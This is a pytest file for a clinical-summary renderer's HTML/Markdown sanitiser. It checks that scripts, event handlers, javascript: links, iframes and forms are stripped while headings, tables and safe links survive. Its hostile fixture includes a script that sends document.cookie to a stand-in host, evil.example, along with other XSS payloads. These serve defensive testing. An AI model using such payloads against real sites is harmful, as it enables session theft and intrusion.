"""Key clinical summaries: rendered for reading, and never able to run or fetch anything."""

from __future__ import annotations

from pathlib import Path

import pytest

from desktop.media.summary import SummaryError, render_summary, split_title

DEMO = Path(__file__).parents[2] / "creditserver" / "demo" / "media"

HOSTILE = """
<h2 onclick="steal()">Dosing</h2>
<script>fetch('https://evil.example/?' + document.cookie)</script>
<img src="https://tracker.example/pixel.png" onerror="alert(1)">
<img src="file:///etc/passwd">
<p style="position:fixed" onmouseover="x()">Start <b>low</b>,
 <a href="javascript:alert(2)">click</a>
 <a href="JaVaScRiPt:alert(3)">click</a>
 <a href="https://guidelines.example/bp" target="_blank">guideline</a>
 <a href="mailto:cme@example.org">mail</a>
 <a href="/relative/path">relative</a></p>
<iframe src="https://evil.example"></iframe>
<object data="x.swf"></object>
<form action="https://evil.example"><input name="pw"></form>
<style>body { display: none }</style>
<svg onload="alert(4)"><circle r="1"/></svg>
<table><tr><th>Drug</th><td colspan="2">Dose</td></tr></table>
"""


@pytest.fixture
def cleaned() -> str:
    return render_summary(HOSTILE.encode(), "text/html")


@pytest.mark.parametrize(
    "forbidden",
    ["<script", "fetch(", "<img", "onerror", "onclick", "onmouseover", "onload", "javascript:",
     "style", "<iframe", "<object", "<form", "<input", "<svg", "tracker.example", "/relative/path",
     "target="],
)
def test_sanitiser_removes_anything_that_could_run_or_fetch(cleaned, forbidden):
    assert forbidden.lower() not in cleaned.lower()


def test_sanitiser_keeps_structure_and_safe_links(cleaned):
    assert "<h2>Dosing</h2>" in cleaned
    assert "<b>low</b>" in cleaned
    assert '<a href="https://guidelines.example/bp" rel="noopener noreferrer">guideline</a>' in cleaned
    assert '<a href="mailto:cme@example.org" rel="noopener noreferrer">mail</a>' in cleaned
    assert '<td colspan="2">Dose</td>' in cleaned and "<th>Drug</th>" in cleaned


def test_markdown_summary_renders_headings_lists_and_tables():
    html = render_summary((DEMO / "summary-technique.md").read_bytes(), "text/markdown")
    assert html.startswith("<h1>Key clinical summary: measuring blood pressure at home</h1>")
    assert "<ul>" in html and "<ol>" in html and "<strong>validated upper-arm</strong>" in html
    table = render_summary(b"| Drug | Dose |\n|---|---|\n| amlodipine | 5 mg |\n", "text/markdown")
    assert "<table>" in table and "<td>amlodipine</td>" in table


def test_markdown_cannot_smuggle_html_or_script_links():
    html = render_summary(
        b"# Title\n\n<img src=https://tracker.example/x.png onerror=alert(1)>\n\n"
        b"[click](javascript:alert(1)) <script>alert(2)</script>\n", "text/markdown",
    )
    assert "<h1>Title</h1>" in html
    for forbidden in ("<img", "onerror", "<script", "href="):
        assert forbidden not in html  # the javascript: link stays inert text


def test_demo_html_summary_keeps_its_table_and_lists():
    html = render_summary((DEMO / "summary-patina.html").read_bytes(), "text/html; charset=utf-8")
    assert "<table>" in html and "<ol>" in html and "PATINA" in html


def test_plain_text_summary_is_escaped_into_paragraphs():
    html = render_summary(b"Line <one>\nline two\n\nSecond & last", "text/plain")
    assert html == "<p>Line &lt;one&gt;<br>line two</p><p>Second &amp; last</p>"


def test_unknown_type_is_refused():
    with pytest.raises(SummaryError):
        render_summary(b"%PDF-1.7", "application/pdf")


def test_a_summary_opening_with_its_title_gives_it_up_to_head_its_section():
    title, body = split_title(render_summary((DEMO / "summary-technique.md").read_bytes(), "text/markdown"))
    assert title == "Key clinical summary: measuring blood pressure at home"
    assert "measuring blood pressure at home" not in body and "<h1>" not in body
    assert body.startswith("<p><em>Demonstration content.") and "<h2>Before the reading</h2>" in body
    # The summary's own words, even where the catalog's title says less (no "(fictional)" there).
    title, _ = split_title(render_summary((DEMO / "summary-patina.html").read_bytes(), "text/html"))
    assert title == "Key clinical summary: what the (fictional) PATINA trial illustrates"


@pytest.mark.parametrize("summary", [
    b"Start low.\n\n# Later\n",  # no opening heading
    b"## Dosing\n\nStart low.\n",  # opens with a section, not a title
    b"# Dosing\n\nStart low.\n\n# Monitoring\n\nWeekly.\n",  # level-1 headings as sections
    b"#\n\nStart low.\n",  # an empty heading is no title
])
def test_a_summary_without_one_opening_title_is_left_whole(summary):
    fragment = render_summary(summary, "text/markdown")
    assert split_title(fragment) == (None, fragment)


def test_an_opening_title_is_plain_text_and_what_it_held_stays_sanitised():
    fragment = render_summary(b"# Dose *low* &amp; <script>alert(1)</script><img src=x onerror=y>slow\n\nText\n",
                              "text/markdown")
    title, body = split_title(fragment)
    assert title == "Dose low & slow"  # the view escapes it again: it is text, never markup
    assert body == "<p>Text</p>\n"
